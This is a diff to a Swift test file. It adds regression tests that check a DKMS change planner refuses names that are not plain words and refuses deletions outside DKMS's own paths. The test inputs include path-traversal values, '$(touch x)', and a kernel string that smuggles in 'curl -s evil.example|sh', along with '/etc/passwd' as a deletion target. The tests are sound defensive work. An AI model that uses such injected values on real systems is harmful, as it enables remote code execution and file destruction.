@@ -37,6 +37,38 @@ import Testing
         #expect(try changes.state(of: install.inverse!) == .after, "nothing added: nothing to remove")
     }
 
+    /// A name that is not one plain word never reaches dkms nor a copy or a deletion, whether
+    /// it came from a plan or from a journal on undo: before, a version "../../../../srv/victim"
+    /// had a failed copy's cleanup delete /srv/victim.
+    @Test(arguments: [
+        ("ampfsm", "../../../../srv/victim", Self.release), ("ampfsm", "2.0 -k 1.2.3", Self.release), ("ampfsm", "a/b", Self.release),
+        ("ampfsm", "$(touch x)", Self.release), ("../ampfsm", "1.0", Self.release), ("-ampfsm", "1.0", Self.release),
+        ("ampfsm", "1.0", "9.9.9-x;curl -s evil.example|sh;#"), ("ampfsm", "1.0", "../../etc"), ("ampfsm", "", Self.release),
+    ])
+    func namesThatAreNotOneWordAreRefused(module: String, version: String, kernel: String) throws {
+        // A throwaway root: were the check missing, apply would stop at "live host only".
+        let root = TempRoot("dkms")
+        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
+        let install = Change(DKMSInstallChange(module: module, version: version, kernel: kernel, copyFrom: "/srv/ampfsm", writesConf: true, adds: true))
+        for change in [install, install.inverse!] {
+            let said = try #require(changes.precondition(of: change), "\(change.summary)")
+            #expect(said.contains("is not one DKMS can take"), "\(said)")
+            let error = #expect(throws: HostError.self) { try changes.apply(change) }
+            guard case .refused(.notADKMSWord)? = error?.cause else { Issue.record("\(String(describing: error))"); continue }
+        }
+    }
+
+    /// A journal's removal names only the paths DKMS uses for the module and version.
+    @Test func aRemovalDeletesOnlyDKMSsOwnSourcePath() throws {
+        let root = TempRoot("dkms")
+        let changes = try DKMSChanges(fs: RootedFileSystem(root: root.path))
+        for (source, conf) in [("/srv/victim", nil), (nil, "/etc/passwd"), ("/usr/src/ampfsm-1.0/../../srv", nil)] as [(String?, String?)] {
+            let remove = Change(DKMSRemoveChange(module: "ampfsm", version: "1.0", kernel: Self.release, all: true, deleteSource: source, deleteConf: conf))
+            let error = #expect(throws: HostError.self) { try changes.apply(remove) }
+            guard case .refused(.notADKMSWord)? = error?.cause else { Issue.record("\(String(describing: error))"); continue }
+        }
+    }
+
     /// What the install put in the kernel's tree is recorded with its digest; undo deletes such a
     /// file when `dkms remove` leaves it (as under SELinux enforcing, seen in the VM test), and
     /// never a file whose bytes changed since.
